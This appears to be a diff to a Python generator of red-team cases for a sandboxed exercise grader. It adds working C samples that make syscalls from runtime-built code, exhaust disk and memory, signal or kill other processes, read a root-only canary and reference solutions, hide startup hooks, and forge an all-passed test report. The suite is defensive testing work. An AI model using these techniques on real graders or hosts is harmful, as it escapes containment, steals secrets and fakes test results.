@@ -667,6 +667,368 @@ __attribute__((constructor)) static void atk_rawb(void)
 }
 ''')
 
+# ---- run time: system calls made by code built at run time ------------------------
+# The object policy judges the object as compiled: only the exercise's library
+# calls, no system-call instruction. Machine code written into an executable
+# mapping at run time (mmap is one of 01's calls) passes it, so each of these
+# makes its system calls from such a page: what stops them is the run's
+# containment alone (the user, the sandbox, the written-bytes watchdog, the
+# guard). No kit: the kit's own library calls would be refused first.
+JIT = r"""
+#include <stddef.h>
+#include <sys/mman.h>
+#include <unistd.h>
+/* ATTACK: a system-call trampoline written at run time, out of the policy's sight:
+ * mov rax,rdi; mov rdi,rsi; mov rsi,rdx; mov rdx,rcx; mov r10,r8; syscall; ret */
+typedef long (*atk_sc_fn)(long, long, long, long, long);
+static long atk_sc(long nr, long a, long b, long c, long d)
+{
+    static atk_sc_fn fn;
+    static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
+                                         0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x0f, 0x05, 0xc3};
+    if (!fn) {
+        unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
+                                MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        if (p == MAP_FAILED)
+            return -1;
+        for (size_t i = 0; i < sizeof code; i++)
+            p[i] = code[i];
+        fn = (atk_sc_fn)(void *)p;
+    }
+    return fn(nr, a, b, c, d);
+}
+/* A name with a number at the end, without the C library. */
+__attribute__((unused)) static void atk_name(char *out, const char *head, long n)
+{
+    size_t i = 0;
+    while (head[i]) {
+        out[i] = head[i];
+        i++;
+    }
+    char digits[24];
+    int k = 0;
+    do {
+        digits[k++] = (char)('0' + n % 10);
+        n /= 10;
+    } while (n);
+    while (k)
+        out[i++] = digits[--k];
+    out[i] = '\0';
+}
+static int atk_once;
+"""
+
+
+def jit_case(name, what, body, **kw):
+    case(name, "runtime", what, only="01-isolation", bare=JIT + body,
+         hook="atk_attack();", **kw)
+
+
+jit_case("c13_jit_many_files", "60000 empty files in the run's folder, by system calls built at run time", r"""
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    for (long i = 0; i < 60000; i++) {
+        char path[64];
+        atk_name(path, "f", i);
+        long fd = atk_sc(2, (long)path, 0101, 0644, 0); /* open(O_WRONLY|O_CREAT) */
+        if (fd < 0)
+            return;
+        atk_sc(3, fd, 0, 0, 0);
+    }
+}
+""")
+jit_case("c13_jit_big_total", "eight 60 MB files in the run's folder (each under the file size cap, 480 MB in all)", r"""
+static char atk_block[1 << 20];
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    for (long i = 0; i < 8; i++) {
+        char path[64];
+        atk_name(path, "big", i);
+        long fd = atk_sc(2, (long)path, 0101, 0644, 0);
+        if (fd < 0)
+            return;
+        for (int m = 0; m < 60; m++)
+            atk_sc(1, fd, (long)atk_block, sizeof atk_block, 0);
+        atk_sc(3, fd, 0, 0, 0);
+    }
+}
+""", disk="yes")
+jit_case("c13_jit_world_writable", "a file in /tmp, /var/tmp, /dev/shm, /run/lock and /dev/mqueue, a POSIX message queue and System V shared memory", r"""
+static void atk_attack(void)
+{
+    static const char *const dirs[] = {"/tmp/kata-attack-jit-", "/var/tmp/kata-attack-jit-",
+                                       "/dev/shm/kata-attack-jit-", "/run/lock/kata-attack-jit-",
+                                       "/dev/mqueue/kata-attack-jit-"};
+    if (atk_once++)
+        return;
+    long uid = atk_sc(102, 0, 0, 0, 0); /* getuid */
+    for (int i = 0; i < 5; i++) {
+        char path[96];
+        atk_name(path, dirs[i], uid);
+        long fd = atk_sc(2, (long)path, 0101, 0644, 0);
+        if (fd >= 0)
+            atk_sc(3, fd, 0, 0, 0);
+    }
+    char q[64];
+    atk_name(q, "kata-attack-jit-mq-", uid);
+    atk_sc(240, (long)q, 0102, 0600, 0); /* mq_open(O_RDWR|O_CREAT) */
+    atk_sc(29, 0, 1 << 20, 01600, 0);   /* shmget(IPC_PRIVATE, 1 MB, IPC_CREAT|0600) */
+}
+""")
+jit_case("c13_jit_daemon", "fork, setsid and wait for ever, the test process ending at once (exit_group) so no harness clean-up runs", r"""
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    if (fork() == 0) {
+        atk_sc(112, 0, 0, 0, 0); /* setsid */
+        if (fork() == 0)
+            for (;;)
+                atk_sc(34, 0, 0, 0, 0); /* pause */
+        atk_sc(231, 0, 0, 0, 0);
+    }
+    atk_sc(231, 0, 0, 0, 0); /* exit_group(0): no clean-up of its children */
+}
+""")
+jit_case("c13_jit_kill_all", "kill(-1, SIGKILL) by a system call built at run time", r"""
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    atk_sc(62, -1, 9, 0, 0);
+}
+""")
+jit_case("c13_jit_read_secret", "open the root-only canary and the solutions by system calls; write what it read to the run's output", r"""
+static char atk_buf[1 << 16];
+static void atk_attack(void)
+{
+    static const char *const victims[] = {"/srv/kata-canary/secret",
+                                          "solutions/01-isolation/isolation.c",
+                                          "../solutions/01-isolation/isolation.c"};
+    if (atk_once++)
+        return;
+    for (int i = 0; i < 3; i++) {
+        long fd = atk_sc(2, (long)victims[i], 0, 0, 0);
+        if (fd < 0)
+            continue;
+        long n = atk_sc(0, fd, (long)atk_buf, sizeof atk_buf, 0);
+        if (n > 0)
+            atk_sc(1, 2, (long)atk_buf, n, 0);
+        atk_sc(3, fd, 0, 0, 0);
+    }
+}
+""", canary="yes")
+
+
+# ---- more ways around the object policy ----------------------------------------
+# Each hides code that would run outside the tests, or a name the harness owns,
+# in a form no C attribute on a plain function shows. No kit (its own library
+# calls would be refused first): the runner checks that the object policy is
+# what refused the code (refused = yes).
+EARLY_EXIT = r"""
+#include <unistd.h>
+/* ATTACK: ends the test program before a test runs, as if all went well. */
+__attribute__((used)) static void atk_early(void)
+{
+    _exit(0);
+}
+static void atk_touch(void)
+{
+}
+"""
+
+
+def policy_case(name, what, body):
+    case(name, "policy", what, only="01-isolation", refused="yes", bare=body, hook="atk_touch();")
+
+
+policy_case("c14_alias_main", "main defined as an alias (__attribute__((alias))) of a function of ours",
+            EARLY_EXIT + r"""
+int atk_main(int argc, char **argv)
+{
+    (void)argc;
+    (void)argv;
+    _exit(0);
+}
+/* ATTACK: a second name for the same code, one the harness owns. */
+int main(int argc, char **argv) __attribute__((alias("atk_main")));
+""")
+policy_case("c14_symver", ".symver gives a function of ours the name criterion_send_assert@@KATA_1",
+            EARLY_EXIT + r"""
+void atk_no_assert(void *stats)
+{
+    (void)stats;
+}
+/* ATTACK: the assembler gives our function the harness's name, with a version. */
+__asm__(".symver atk_no_assert, criterion_send_assert@@KATA_1");
+""")
+policy_case("c14_preinit_array", "a function pointer in .preinit_array (run before any constructor)",
+            EARLY_EXIT + r"""
+static void (*const atk_preinit)(void) __attribute__((used, section(".preinit_array"))) = atk_early;
+""")
+policy_case("c14_ctors_section", "a function pointer in .ctors.00100 (the old constructor table, still run by the linker script)",
+            EARLY_EXIT + r"""
+static void (*const atk_ctor)(void) __attribute__((used, section(".ctors.00100"))) = atk_early;
+""")
+policy_case("c14_init_array_in_function_asm", "an .init_array entry made by .section inside a function's asm (not top level)",
+            EARLY_EXIT + r"""
+__attribute__((used)) static void atk_hide_init(void)
+{
+    __asm__(".section .init_array,\"aw\"\n.balign 8\n.quad atk_early\n.text");
+}
+""")
+policy_case("c14_sigaction_swallow", "sigaction on SIGSEGV and SIGABRT with a handler that _exit(0)s: a crash would read as a clean end",
+            EARLY_EXIT + r"""
+#include <signal.h>
+#include <string.h>
+static void atk_swallow(int sig)
+{
+    (void)sig;
+    _exit(0);
+}
+__attribute__((used)) static void atk_handlers(void)
+{
+    struct sigaction sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = atk_swallow;
+    sigaction(SIGSEGV, &sa, NULL);
+    sigaction(SIGABRT, &sa, NULL);
+}
+""")
+case("c14_digraph_include", 3, "%:include (the digraph spelling of #include) of the reference solution",
+     replace=include_solution("%:include "))
+case("c14_continued_include", 3, "#\\<newline>include: the directive split by a line continuation",
+     replace=include_solution("#\\\ninclude "))
+case("c14_include_next", 3, "#include_next of the reference solution",
+     replace=include_solution("#include_next "))
+case("c14_pragma_dependency", 3, "#pragma GCC dependency and _Pragma on a root-only file and the solution: the compiler reads them",
+     canary="yes", only="01-isolation", probe="yes", replace=lambda ex, f, stub: (
+         "/* ATTACK: the compiler opens the named files to compare their dates. */\n"
+         "#pragma GCC dependency \"/srv/kata-canary/secret\" KATA-PROBE\n"
+         "_Pragma(\"GCC dependency \\\"%ssolutions/%s/%s\\\" KATA-PROBE\")\n%s"
+         % (UP_FROM_STAGE, ex, f, stub)))
+case("c14_sigaction_swallow", "policy", "sigaction on SIGSEGV and SIGABRT with a handler that _exit(0)s: a crash reads as a clean end",
+     all=r"""
+static void atk_swallow(int sig)
+{
+    (void)sig;
+    _exit(0);
+}
+static ATK_UNUSED void atk_handlers(void)
+{
+    struct sigaction sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = atk_swallow;
+    sigaction(SIGSEGV, &sa, NULL);
+    sigaction(SIGABRT, &sa, NULL);
+}
+""", hook="atk_handlers();")
+
+# ---- the run's own output and odd submissions --------------------------------------
+case("c14_fork_fake_report", "output", "a forked child writes a fake all-passed Criterion report and summary to stdout and stderr",
+     only="01-isolation", hook="atk_fake();", bare=r"""
+#include <string.h>
+#include <sys/wait.h>
+#include <unistd.h>
+static int atk_done;
+/* ATTACK: what a report looks like, from a process the tests never started. */
+static void atk_fake(void)
+{
+    static const char xml[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+        "<testsuites name=\"Criterion Tests\" tests=\"99\" failures=\"0\" errors=\"0\" disabled=\"0\">\n"
+        "</testsuites>\n[====] Synthesis: Tested: 99 | Passing: 99 | Failing: 0 | Crashing: 0\n"
+        "total 80.00 / 80\n";
+    if (atk_done++)
+        return;
+    pid_t p = fork();
+    if (p == 0) {
+        if (write(1, xml, strlen(xml)) < 0 || write(2, xml, strlen(xml)) < 0)
+            _exit(1);
+        _exit(0);
+    }
+    if (p > 0)
+        waitpid(p, NULL, 0);
+}
+""")
+case("c14_non_utf8_output", "output", "the stub writes bytes that are not UTF-8, NULs and terminal escapes to stdout and stderr",
+     only="01-isolation", hook="atk_bytes();", bare=r"""
+#include <unistd.h>
+/* ATTACK: output the grader must read and show without trusting it. */
+static void atk_bytes(void)
+{
+    static const char junk[] = "\xff\xfe\x80\xc3\x28 \x00 \x1b]0;pwned\x07\x1b[2J\x1b[1;1H\r"
+                               "PASS total 80.00 / 80 \xed\xa0\x80\n";
+    if (write(1, junk, sizeof junk) < 0 || write(2, junk, sizeof junk) < 0)
+        return;
+}
+""")
+case("c14_alloca_bomb", "output", "__builtin_alloca of 64 GB and a 1 GB static array: the stack and the address space",
+     only="01-isolation", hook="atk_bomb();", bare=r"""
+#include <string.h>
+/* ATTACK: no library call, only memory. */
+static char atk_huge[1UL << 30];
+static void atk_bomb(void)
+{
+    volatile char *p = __builtin_alloca(1UL << 36);
+    p[0] = atk_huge[12345];
+    memset((char *)p, 1, 1 << 20);
+}
+""")
+case("c14_symlink_header", 6, "the submission brings attack.h, a symlink to a root-only file, and includes it by name",
+     canary="yes", only="01-isolation",
+     replace=lambda ex, f, stub: "#include \"attack.h\"\n#include \"solution.h\"\n" + stub,
+     extra={"01-isolation/attack.h": ("link", "/srv/kata-canary/secret"),
+            "01-isolation/solution.h": ("link", UP_FROM_CASE_EX + "solutions/01-isolation/isolation.c")})
+case("c14_odd_names", "submission", "files named -o, with a newline and not UTF-8 beside the stubs; join.c is a folder",
+     extra={"01-isolation/-o": ("file", "int x;\n"), "01-isolation/a\nb.c": ("file", "int y;\n"),
+            b"01-isolation/\xff\xfe.c".decode("utf-8", "surrogateescape"): ("file", "int z;\n"),
+            "02-join/join.c": ("dir", None)})
+case("c14_many_submission_files", "submission", "30000 files beside the stubs in the submission (made by the runner)",
+     setup="many-files:01-isolation:30000")
+
+jit_case("c14_jit_sigstop", "SIGSTOP to its parent, its own process group and every process it may signal", r"""
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    long parent = atk_sc(110, 0, 0, 0, 0); /* getppid */
+    atk_sc(62, parent, 19, 0, 0);          /* kill(parent, SIGSTOP) */
+    atk_sc(62, 0, 19, 0, 0);               /* kill(0, SIGSTOP): the process group */
+    atk_sc(62, -1, 19, 0, 0);              /* kill(-1, SIGSTOP) */
+}
+""")
+jit_case("c14_jit_unshare_leftover", "unshare a user and PID namespace, leave a child sleeping in it (its pid 1), end at once", r"""
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    atk_sc(272, 0x10000000 | 0x20000000, 0, 0, 0); /* unshare(CLONE_NEWUSER | CLONE_NEWPID) */
+    if (fork() == 0)
+        for (;;)
+            atk_sc(34, 0, 0, 0, 0); /* pause */
+    atk_sc(231, 0, 0, 0, 0);
+}
+""")
+jit_case("c14_jit_setpgid_escape", "a child in a process group of its own (setpgid) that ignores SIGTERM and SIGHUP and sleeps", r"""
+static void atk_attack(void)
+{
+    if (atk_once++)
+        return;
+    if (fork() == 0) {
+        long ign[4] = {1, 0, 0, 0};      /* SIG_IGN, no flags */
+        atk_sc(109, 0, 0, 0, 0);         /* setpgid(0, 0) */
+        atk_sc(13, 15, (long)ign, 0, 8); /* rt_sigaction(SIGTERM) */
+        atk_sc(13, 1, (long)ign, 0, 8);  /* rt_sigaction(SIGHUP) */
+        for (;;)
+            atk_sc(34, 0, 0, 0, 0);
+    }
+}
+""")
+
 # ---- 10: grade-all ---------------------------------------------------------------
 case("c10_fifo_named_c", 10, "grade-all: the student's join.c is a FIFO (made by the runner)",
      mode="grade-all", setup="fifo:02-join/join.c")
@@ -752,6 +1114,8 @@ def write_case(name, spec, files):
             attacked = spec.get("only") in (None, ex)
             if attacked and spec.get("replace"):
                 text = spec["replace"](ex, f, stub)
+            elif attacked and spec.get("bare"):  # no kit: the case's own code only
+                text = "/* ==== the attack ==== */\n" + spec["bare"] + "\n" + hooked(text, spec["hook"])
             elif attacked and (spec.get("all") or spec.get("hook")):
                 attack = "\n/* ==== the attack ==== */\n" + spec.get("all", "")
                 if spec.get("hook"):  # the attack first: the stub's functions call it
@@ -760,6 +1124,17 @@ def write_case(name, spec, files):
                     text = kit + "\n" + text + attack
             with open(dest, "w") as fh:
                 fh.write(text)
+    for rel, (kind, what) in spec.get("extra", {}).items():
+        p = os.path.join(d, rel)
+        if kind == "link":
+            os.symlink(what, p)
+        elif kind == "dir":
+            if os.path.lexists(p):
+                os.unlink(p)
+            os.makedirs(os.path.join(p, "inside.c"))
+        else:
+            with open(p, "w") as fh:
+                fh.write(what)
     for rel, text in spec.get("overlay", {}).items():
         p = os.path.join(d, "clone", rel)
         os.makedirs(os.path.dirname(p), exist_ok=True)
@@ -767,7 +1142,7 @@ def write_case(name, spec, files):
             fh.write(text)
     ini = ["[case]", "class = %s" % spec["cls"], "what = %s" % spec["what"], "mode = %s" % spec["mode"],
            "points = 0"]
-    for key in ("canary", "disk", "memory", "network", "setup", "victim", "probe"):
+    for key in ("canary", "disk", "memory", "network", "setup", "victim", "probe", "refused"):
         if spec.get(key):
             ini.append("%s = %s" % (key, spec[key]))
     if spec.get("only") and spec["mode"] == "grade":
